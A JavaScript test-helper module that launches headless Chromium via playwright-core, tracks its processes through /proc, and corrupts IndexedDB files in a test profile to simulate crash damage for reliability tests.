// The one Chromium launcher of the JS tests (Node): Debian's /usr/bin/chromium driven by
// playwright-core, with the flags TOOLCHAIN.md lists (never a downloaded browser).
//
//   const browser = await launchBrowser();                 // a fresh, throwaway profile
//   const context = await launchPersistent(profileDir);    // IndexedDB on disk, survives restarts
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { readFileSync } from 'node:fs';
import { chromium } from 'playwright-core';

export const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';
export const CHROMIUM_ARGS = ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--disable-background-networking',
  '--disable-component-update', '--disable-sync', '--no-first-run'];

/** Headless Chromium with a throwaway profile. `args` are added to the standard flags. */
export function launchBrowser({ args = [], ...options } = {}) {
  return chromium.launch({ executablePath: CHROMIUM, headless: true, ...options, args: [...CHROMIUM_ARGS, ...args] });
}

/** Headless Chromium on the profile folder `profile` (its IndexedDB survives pages and restarts). */
export function launchPersistent(profile, { args = [], ...options } = {}) {
  return chromium.launchPersistentContext(profile, { executablePath: CHROMIUM, headless: true, ...options, args: [...CHROMIUM_ARGS, ...args] });
}

/** Collects the uncaught errors of `page` (check the list is empty at the end). */
export function pageErrors(page) {
  const errors = [];
  page.on('pageerror', (e) => errors.push(String(e && e.stack || e)));
  return errors;
}

/** Waits until `window[flag]` or window.harnessError is set; throws the harness's error. */
export async function waitFor(page, flag, timeout = 30_000) {
  await page.waitForFunction((f) => window[f] || window.harnessError, flag, { timeout });
  const err = await page.evaluate(() => window.harnessError);
  if (err) throw new Error(`harness failed to load: ${err}`);
}

/**
 * The fields of /proc/<pid>/stat after the command name: [state, ppid, pgrp, ...] (Linux);
 * null when the process is gone.
 */
function procStat(pid) {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    return stat.slice(stat.lastIndexOf(')') + 2).split(' ');
  } catch {
    return null;
  }
}

/** The command line of `pid` ('' when it is gone). */
function cmdline(pid) {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
  } catch {
    return '';
  }
}

/** The pids in /proc, this process excluded. */
async function pids() {
  return (await readdir('/proc')).filter((e) => /^\d+$/.test(e) && Number(e) !== process.pid).map(Number);
}

/**
 * The pid of the Chromium browser process this Node process started on `profile` (Linux: a
 * direct child whose command line names the profile), or null.
 */
export async function browserPid(profile) {
  for (const pid of await pids()) {
    const stat = procStat(pid);
    if (stat && Number(stat[1]) === process.pid && cmdline(pid).includes(profile)) return pid;
  }
  return null;
}

/** The process group of `pid` (Playwright starts the browser in its own group). */
export function processGroup(pid) {
  const stat = procStat(pid);
  return stat ? Number(stat[2]) : null;
}

/** The live processes (not zombies) in process group `group` or whose command line names `profile`. */
export async function processesOn(profile, group) {
  return (await pids()).filter((pid) => {
    const stat = procStat(pid);
    return stat !== null && stat[0] !== 'Z' && (Number(stat[2]) === group || cmdline(pid).includes(profile));
  });
}

export const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/**
 * Damages the IndexedDB files of every origin in the (closed) browser profile `profile`: flips
 * bytes all through the LevelDB logs and tables, so that Chromium finds them corrupt at the next
 * open and deletes the databases (what a browser kill sometimes leads to, RELIABILITY.md §3).
 * Returns how many files it damaged.
 */
export async function damageIndexedDb(profile) {
  const root = join(profile, 'Default', 'IndexedDB');
  let damaged = 0;
  for (const dir of await readdir(root)) {
    if (!dir.endsWith('.indexeddb.leveldb')) continue;
    for (const file of await readdir(join(root, dir))) {
      if (!file.endsWith('.log') && !file.endsWith('.ldb')) continue;
      const bytes = await readFile(join(root, dir, file));
      for (let i = 64; i < bytes.length; i += 61) bytes[i] ^= 0xff;
      await writeFile(join(root, dir, file), bytes);
      damaged += 1;
    }
  }
  return damaged;
}
